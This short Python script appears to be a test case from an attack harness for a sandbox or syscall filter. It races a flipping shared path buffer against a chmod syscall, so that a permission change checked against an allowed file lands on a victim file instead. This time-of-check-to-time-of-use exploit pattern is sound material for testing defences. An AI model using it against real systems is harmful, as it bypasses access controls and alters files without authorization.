"""The path changes between the check and the change of a mode."""

import os
import stat

from attack import WORLD, Shared, race, syscall, tries

path = Shared(f"{WORLD.granted}/plain.txt".encode(), WORLD.victim.encode())


def strike() -> bool:
    """Change the mode of whatever the path says now."""
    syscall("chmod", path.address, 0o640)
    return stat.S_IMODE(os.stat(WORLD.victim).st_mode) == 0o640


with tries():
    race(path.flip, strike)
